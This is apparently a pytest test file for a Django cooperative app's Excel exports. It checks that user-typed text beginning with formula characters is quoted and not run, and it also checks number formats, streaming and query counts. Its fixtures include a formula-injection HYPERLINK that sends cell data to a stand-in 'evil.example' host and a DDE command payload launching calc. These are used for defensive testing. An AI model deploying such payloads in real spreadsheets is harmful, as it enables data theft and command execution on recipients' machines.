"""No XLSX export carries a formula: text people typed that a spreadsheet would run (it begins
with =, +, -, @, a tab or a carriage return) is written as a quoted string cell, one test per
export, from text typed where it is typed (the public application form, the API's member edit,
staff's forms); numbers stay numbers."""

import io
import os
import secrets
import tracemalloc
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from coop import xlsx
from coop.tenancy import scope, unscoped
from members.models import Member
from members.services.imports import read_table
from tests.members.test_public import post_application

LINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
TYPED = {
    "name": LINK,
    "contact_person": "+SUM(1,2)",
    "town": "@SUM(1,2)",
    "address": "\t=1+1",
    "main_products": "-2+3",
    "legal_representative": "\r=cmd|' /C calc'!A0",
}
TYPED_FIELDS = list(TYPED)
YEAR = date.today().year


def cells(content):
    """Every cell of every sheet of an XLSX file."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content, *typed):
    """No cell is a formula, and each typed text is there, quoted, as a string cell."""
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    for text in typed:
        matching = [c for c in found if c.value == "'" + text]
        assert matching, f"{text!r} is not in the file as quoted text"
        assert all(c.data_type == "s" for c in matching)
    return found


def applied_anonymously(client, tenant, **typed):
    """A member unit as an anonymous applicant typed it on the public form."""
    fields = {**TYPED, **typed}
    response = post_application(client, tenant, **fields)
    assert "申请已收到" in response.content.decode()
    with unscoped():
        return Member.objects.get(name=fields["name"])


def test_text_that_a_spreadsheet_runs_is_quoted_and_comes_back_as_typed():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "'quoted"):
        assert xlsx.neutralised(text) == "'" + text
        assert xlsx.restore(xlsx.neutralised(text)) == text
    for text in ("南通家纺", "1+1", " =1", "", "a=b"):
        assert xlsx.neutralised(text) == text == xlsx.restore(text)
    assert xlsx.neutralised("a\x00b\x07c") == "abc"  # XLSX cannot hold them; never a 500
    sheet = [
        ("表", ["数", "文字"], [[-5, "-5"], [Decimal("-1.5"), "=1"], [date(2025, 1, 2), None]])
    ]
    values = [(c.value, c.data_type) for c in cells(xlsx.workbook(sheet))]
    assert values[2:] == [
        (-5, "n"),
        ("'-5", "s"),
        (-1.5, "n"),
        ("'=1", "s"),
        (values[6][0], "d"),
        (None, "n"),
    ]


def test_the_members_export(coop_a, client, api):
    member = applied_anonymously(client, coop_a)
    # The API's member edit: staff rename a unit, an enterprise edits its own contacts.
    renamed = api(coop_a.admin).patch(
        f"/api/v1/coops/coop-a/members/{coop_a.member.pk}/", {"name": "=1+2"}, format="json"
    )
    assert renamed.status_code == 200
    edited = api(coop_a.enterprise).patch(
        f"/api/v1/coops/coop-a/members/{coop_a.member.pk}/",
        {"contact_person": "@cmd", "main_products": "=IMPORTXML(A1)"},
        format="json",
    )
    assert edited.status_code == 200
    client.force_login(coop_a.admin)
    content = client.get("/c/coop-a/members/export.xlsx").getvalue()
    # Forms and the API trim the tab and carriage return; what is left begins with "=".
    stored = [getattr(member, field) for field in TYPED]
    assert stored[TYPED_FIELDS.index("address")] == "=1+1"
    assert_no_formula(content, *stored, "=1+2", "@cmd", "=IMPORTXML(A1)")
    # The export still imports back as it was typed.
    rows = read_table("members.xlsx", content)
    names = {row[0]: row for row in rows[1:]}
    assert set(names) == {member.name, "=1+2"}
    assert names[member.name][5] == "+SUM(1,2)" and names["=1+2"][5] == "@cmd"


def test_the_lending_export(coop_a, client):
    from credit.models import CreditGrade
    from credit.services import grading

    member = applied_anonymously(client, coop_a)
    with unscoped():
        Member.objects.filter(pk=member.pk).update(status="active", lending_consent=True)
    with scope({coop_a.cooperative.pk}):
        grading.grade_members(cooperative_id=coop_a.cooperative.pk)
        grade = CreditGrade.objects.get(member=member)
        grading.override(grade=grade, actor=coop_a.admin, new_grade="AAA", reason="示例")
    client.force_login(coop_a.admin)
    found = assert_no_formula(client.get("/c/coop-a/grades/lending.xlsx").getvalue(), LINK)
    score = next(c for c in found if c.row == 2 and c.column == 4)
    assert (score.data_type, score.value) == ("n", float(grade.score))  # numbers stay numbers


def test_the_problem_map_export(coop_a, client):
    from standards.models import Indicator
    from testing_fund.models import Result
    from tests.credit.test_assessments import failed_batch

    member = applied_anonymously(client, coop_a, town="=HYPERLINK(1)")
    batch = failed_batch(coop_a, member, date(YEAR, 1, 15))
    with unscoped():
        Result.objects.create(
            cooperative=coop_a.cooperative,
            batch=batch,
            indicator=Indicator.objects.get(code="ph"),
            price=100,
            verdict="fail",
            reported_on=batch.reported_on,
        )
    client.force_login(coop_a.admin)
    content = client.get("/c/coop-a/problems/export.xlsx", {"year": YEAR}).content
    found = assert_no_formula(content, "=HYPERLINK(1)")
    failures = next(c for c in found if c.value == "'=HYPERLINK(1)")
    count = found[found.index(failures) + 2]
    assert (count.value, count.data_type, count.number_format) == (1, "n", "0")


def test_the_dashboard_export(coop_a, client):
    from tests.credit.test_assessments import failed_batch

    member = applied_anonymously(client, coop_a)
    with unscoped():
        Member.objects.filter(pk=member.pk).update(status="active")
    failed_batch(coop_a, member, date(YEAR, 1, 15))
    # The cooperative's name is typed by staff in the admin site.
    coop_a.cooperative.name_zh = "-南通质量合作社"
    coop_a.cooperative.save()
    client.force_login(coop_a.supervisor)
    content = client.get("/dashboard/export.xlsx", {"year": YEAR}).content
    found = assert_no_formula(content, "-南通质量合作社")
    numbers = [c for c in found if c.row == 2 and c.column > 1 and c.value is not None]
    assert numbers and all(c.data_type == "n" for c in numbers), str(
        [(c.coordinate, c.value, c.data_type) for c in numbers if c.data_type != "n"]
    )


def test_the_standards_collection_export(loaded, coop_a, client):
    from standards import services
    from standards.models import Standard

    with unscoped():
        standard = Standard.objects.create(
            cooperative=coop_a.cooperative,
            level="buyer",
            code="=HYPERLINK(2)",
            title_zh="@买家要求",
            implemented_on=date(2025, 1, 1),
        )
    with scope({coop_a.cooperative.pk}):
        services.collect(
            cooperative=coop_a.cooperative, actor=coop_a.admin, standard=standard, section="+分类"
        )
    content = client.get("/c/coop-a/collection.xlsx").content  # public: anyone downloads it
    found = assert_no_formula(content, "=HYPERLINK(2)", "@买家要求", "+分类")
    implemented = next(c for c in found if c.column == 4 and c.row == 2)
    assert implemented.is_date and implemented.value.date() == date(2025, 1, 1)
    assert implemented.number_format == "yyyy-mm-dd"
    assert_laid_out(content)


@pytest.fixture
def loaded(db):
    from standards import catalogue

    catalogue.load()


# Figures: numbers a spreadsheet counts with, dates, and a sheet that reads well.


def sheets_of(content):
    return load_workbook(io.BytesIO(content)).worksheets


def assert_laid_out(content):
    """Every sheet keeps its bold headings in view, under a filter."""
    for sheet in sheets_of(content):
        assert sheet.freeze_panes == "A2", sheet.title
        headings = next(sheet.iter_rows(max_row=1))
        assert headings and all(c.font.b for c in headings), sheet.title
        last = headings[-1].column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{max(sheet.max_row, 1)}", sheet.title


def column(sheet, heading):
    """The cells under ``heading``."""
    headings = [c.value for c in next(sheet.iter_rows(max_row=1))]
    index = headings.index(heading)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def assert_number(found, value, number_format):
    assert (found.value, found.data_type, found.number_format) == (value, "n", number_format)


def test_figures_are_numbers_with_their_format_and_dates_are_dates():
    headings = ["名称", "金额", "批次", "合格率", "日期", "分数"]
    rows = [
        ["南通家纺", Decimal("450000.00"), 3, xlsx.percent(87.5), date(2025, 1, 2), Decimal("8.5")],
        ["海门", Decimal("-1234.50"), 0, None, None, None],
        ["x" * 200, xlsx.Money(7), 12, xlsx.Ratio(0.5), date(2025, 12, 31), Decimal("90.0")],
    ]
    content = xlsx.workbook([("表", headings, rows)])
    assert_laid_out(content)
    sheet = sheets_of(content)[0]
    money = column(sheet, "金额")
    assert_number(money[0], 450000, "#,##0.00")
    assert_number(money[1], -1234.5, "#,##0.00")
    assert_number(money[2], 7, "#,##0.00")
    assert_number(column(sheet, "批次")[0], 3, "0")
    assert_number(column(sheet, "合格率")[0], 0.875, "0.0%")
    assert_number(column(sheet, "分数")[0], 8.5, "#,##0.0")
    day = column(sheet, "日期")[0]
    assert day.is_date and day.value.date() == date(2025, 1, 2)
    assert day.number_format == "yyyy-mm-dd"
    assert column(sheet, "合格率")[1].value is None
    # A sum over the money column adds numbers, not text.
    assert sum(c.value for c in money if c.data_type == "n") == 450000 - 1234.5 + 7
    widths = {letter: d.width for letter, d in sheet.column_dimensions.items()}
    assert widths["F"] < widths["B"] < widths["A"] == xlsx.WIDEST  # long text is capped
    # A Chinese character counts two: 名称 alone is as wide as eight Latin letters.
    assert xlsx.display_width("南通家纺") == 8 == xlsx.display_width("abcdefgh")
    assert xlsx.display_width(Decimal("450000.00")) == len("450,000.00") + 1


def test_yes_and_no_are_words_and_an_empty_sheet_still_has_its_headings():
    content = xlsx.workbook([("空", ["甲", "乙"], []), ("是否", ["留样"], [[True], [False]])])
    assert_laid_out(content)
    empty, booleans = sheets_of(content)
    assert empty.auto_filter.ref == "A1:B1"
    assert [c.value for c in column(booleans, "留样")] == ["是", "否"]


EXPORT_HEADINGS = ["公约签署情况", "当前版本签署日期", "信用等级", "信用等级有效期至"]


def adopt(tenant, version):
    from members.models import Convention

    return Convention.objects.create(
        cooperative=tenant.cooperative,
        version=version,
        title=f"第{version}版",
        purpose="p",
        principles="p",
        duties="d",
        member_conditions="m",
        entry_exit_rules="e",
    )


def sign(convention, member, **fields):
    from members.models import ConventionSignature

    return ConventionSignature.objects.create(
        cooperative=member.cooperative,
        convention=convention,
        member=member,
        signer_name="陈建华",
        signer_position="总经理",
        **fields,
    )


def grade(member, letter, valid_from, valid_until):
    from credit.models import CreditGrade

    return CreditGrade.objects.create(
        cooperative=member.cooperative,
        member=member,
        grade=letter,
        score=Decimal("90.0"),
        valid_from=valid_from,
        valid_until=valid_until,
    )


def graded_and_signed(tenant):
    """Four members of ``tenant``: its own member signed the current version online and is
    graded AA (after an older A); in 常乐镇, one signed it on paper and is graded A, one signed
    only the old version and has an expired grade, one never signed nor was graded."""
    from datetime import timedelta

    from django.utils import timezone

    from members.services.convention import paper_time
    from tests.factories import MemberFactory

    today = timezone.localdate()
    online = tenant.member
    paper, old, never = (
        MemberFactory(cooperative=tenant.cooperative, name=name, town="常乐镇")
        for name in ("纸质签署家纺", "旧版签署家纺", "未签署家纺")
    )
    with unscoped():
        first, current = adopt(tenant, 1), adopt(tenant, 2)
        sign(first, online)
        sign(current, online)
        sign(current, paper, on_paper=True, signed_at=paper_time(date(2025, 3, 4)))
        sign(first, old)
        grade(online, "A", today - timedelta(days=400), today + timedelta(days=10))
        grade(online, "AA", today - timedelta(days=30), today + timedelta(days=300))
        grade(paper, "A", today - timedelta(days=30), today + timedelta(days=300))
        grade(old, "B", today - timedelta(days=400), today - timedelta(days=35))
    return {"online": online, "paper": paper, "old": old, "never": never}


def export_rows(client, tenant, **filters):
    client.force_login(tenant.admin)
    content = client.get(f"/c/{tenant.slug}/members/export.xlsx", filters).getvalue()
    assert_laid_out(content)
    sheet = sheets_of(content)[0]
    headings = [c.value for c in next(sheet.iter_rows(max_row=1))]
    return content, {
        row[0].value: dict(zip(headings, row, strict=False)) for row in sheet.iter_rows(min_row=2)
    }


def test_the_members_export_has_each_units_grade_and_signature(coop_a, coop_b, client):
    from django.utils import timezone

    members = graded_and_signed(coop_a)
    graded_and_signed(coop_b)  # another cooperative's conventions and grades stay out
    content, rows = export_rows(client, coop_a)
    assert set(rows) == {member.name for member in members.values()}
    online, paper = rows[members["online"].name], rows[members["paper"].name]
    old, never = rows[members["old"].name], rows[members["never"].name]
    assert online["公约签署情况"].value == "已签署第 2 版"
    assert online["当前版本签署日期"].value.date() == timezone.localdate()
    assert online["当前版本签署日期"].number_format == "yyyy-mm-dd"
    assert paper["公约签署情况"].value == "已纸质签署第 2 版"
    assert paper["当前版本签署日期"].value.date() == date(2025, 3, 4)
    assert old["公约签署情况"].value == never["公约签署情况"].value == "未签署第 2 版"
    assert old["当前版本签署日期"].value is None
    # The grade in force today, the latest one: an expired grade is no grade.
    assert online["信用等级"].value == "AA"
    assert online["信用等级有效期至"].is_date
    assert old["信用等级"].value is None and never["信用等级"].value is None
    # Codes show as their labels, dates as date cells.
    assert online["状态"].value == "在册" and online["类型"].value == "企业"
    assert online["入社日期"].is_date and online["入社日期"].number_format == "yyyy-mm-dd"


def test_the_members_export_says_when_no_convention_is_adopted(coop_a, client):
    _content, rows = export_rows(client, coop_a)
    assert rows[coop_a.member.name]["公约签署情况"].value == "尚未制定公约"


# The session, the user, the cooperative of the URL, and the members with their signature
# and grade as subqueries: however many rows.
QUERIES = 4


def test_the_members_export_makes_as_many_queries_for_two_units_as_for_twenty(
    coop_a, client, django_assert_num_queries
):
    from tests.factories import MemberFactory

    client.force_login(coop_a.admin)
    url = f"/c/{coop_a.slug}/members/export.xlsx"
    MemberFactory(cooperative=coop_a.cooperative)
    client.get(url).getvalue()  # the session and the user are read once on the first request
    with django_assert_num_queries(QUERIES):
        response = client.get(url)
        # Streamed from a file: the rows were read (in chunks) while it was written.
        assert response.streaming and response["Content-Type"] == xlsx.XLSX
        assert len(sheets_of(response.getvalue())[0]["A"]) == 1 + 2
    graded_and_signed(coop_a)  # three more units with their grades and signatures
    for _ in range(15):
        MemberFactory(cooperative=coop_a.cooperative)
    with django_assert_num_queries(QUERIES):
        assert len(sheets_of(client.get(url).getvalue())[0]["A"]) == 1 + 20


def test_a_list_export_is_streamed_from_a_file_on_disk():
    rows = ([n, f"社员{n}"] for n in range(3000))
    response = xlsx.streamed([("社员", ["序号", "名称"], rows)], "coop-a-members.xlsx")
    spool = response.file_to_stream
    # A real file (gunicorn sends it with sendfile), not a buffer in the worker's memory.
    assert os.fstat(spool.fileno()).st_size == int(response["Content-Length"]) > 0
    assert response["Content-Disposition"] == 'attachment; filename="coop-a-members.xlsx"'
    sheet = sheets_of(response.getvalue())[0]
    assert [c.value for c in sheet["B"]][-1] == "社员2999" and sheet.max_row == 3001
    spool.close()  # (closing the response would also signal the request's end)


def write_peak(make, rows):
    """The most Python memory held at once while ``make`` writes ``rows`` rows of text that
    hardly compresses (the rows themselves come from a generator, so they are not counted)."""
    sheet_rows = ([secrets.token_hex(16) for _ in range(8)] for _ in range(rows))
    tracemalloc.start()
    try:
        made = make([("表", list("甲乙丙丁戊己庚辛"), sheet_rows)])
        return tracemalloc.get_traced_memory()[1], made
    finally:
        tracemalloc.stop()


def test_a_streamed_export_holds_no_more_memory_for_more_rows():
    small, large = 1500, 8000  # both past the rows sampled for the column widths

    def streamed(sheets):
        response = xlsx.streamed(sheets, "x.xlsx")
        size = int(response["Content-Length"])
        response.file_to_stream.close()
        return size

    small_peak, small_size = write_peak(streamed, small)
    large_peak, large_size = write_peak(streamed, large)
    grown = large_size - small_size
    assert grown > 1_000_000  # a megabyte more file...
    assert large_peak - small_peak < grown / 4  # ...and hardly any more memory
    # The same measure sees a file built in memory grow with it (its buffer).
    small_peak, _ = write_peak(xlsx.workbook, small)
    large_peak, _ = write_peak(xlsx.workbook, large)
    assert large_peak - small_peak > grown / 2


def test_the_members_export_with_grades_and_signatures_imports_back(coop_a, api, client):
    from members.models import ConventionSignature
    from tests.members.test_import_export import upload

    graded_and_signed(coop_a)
    content, rows = export_rows(client, coop_a, town="常乐镇")
    assert len(rows) == 3 and {row["信用等级"].value for row in rows.values()} == {"A", None}
    with unscoped():
        ConventionSignature.objects.filter(member__town="常乐镇").delete()
        Member.objects.filter(town="常乐镇").delete()
    report = upload(api, coop_a, io.BytesIO(content), "again.xlsx").json()
    assert report["valid"] is True, report["errors"]
    confirmed = api(coop_a.admin).post(
        f"/api/v1/coops/coop-a/member-imports/{report['id']}/confirm/"
    )
    assert confirmed.status_code == 200, confirmed.json()
    with unscoped():
        back = Member.objects.filter(cooperative=coop_a.cooperative, town="常乐镇")
        assert sorted(back.values_list("name", "status", "joined_on")) == sorted(
            (name, "active", row["入社日期"].value.date()) for name, row in rows.items()
        )


def test_every_export_is_laid_out_with_typed_cells(coop_a, client):
    """The lending, problem map, dashboard and import template files: bold frozen headings
    under a filter; money, counts and rates as numbers with their formats."""
    from credit.models import CreditGrade
    from credit.services import grading
    from tests.credit.test_assessments import failed_batch

    member = applied_anonymously(client, coop_a)
    with unscoped():
        Member.objects.filter(pk=member.pk).update(status="active", lending_consent=True)
    failed_batch(coop_a, member, date(YEAR, 1, 15))
    with scope({coop_a.cooperative.pk}):
        grading.grade_members(cooperative_id=coop_a.cooperative.pk)
        grading.override(
            grade=CreditGrade.objects.get(member=member),
            actor=coop_a.admin,
            new_grade="AAA",
            reason="示例",
        )
    client.force_login(coop_a.admin)
    lending = client.get("/c/coop-a/grades/lending.xlsx").getvalue()
    assert_laid_out(lending)
    sheet = sheets_of(lending)[0]
    assert column(sheet, "得分")[0].number_format == "#,##0.0"
    assert column(sheet, "有效期至")[0].is_date
    problems = client.get("/c/coop-a/problems/export.xlsx", {"year": YEAR}).content
    assert_laid_out(problems)
    template = client.get("/c/coop-a/imports/template.xlsx").content
    assert_laid_out(template)
    client.force_login(coop_a.supervisor)
    dashboard = client.get("/dashboard/export.xlsx", {"year": YEAR}).content
    assert_laid_out(dashboard)
    cooperatives, trend = sheets_of(dashboard)[:2]
    row = {heading.value: c for heading, c in zip(cooperatives[1], cooperatives[2], strict=True)}
    for heading in ("拨款（元）", "支出（元）", "余额（元）"):
        assert (row[heading].data_type, row[heading].number_format) == ("n", "#,##0.00")
    rates = [c for c in column(trend, trend["D1"].value) if c.value is not None]
    assert rates and all(c.number_format == "0.0%" and 0 <= c.value <= 1 for c in rates)
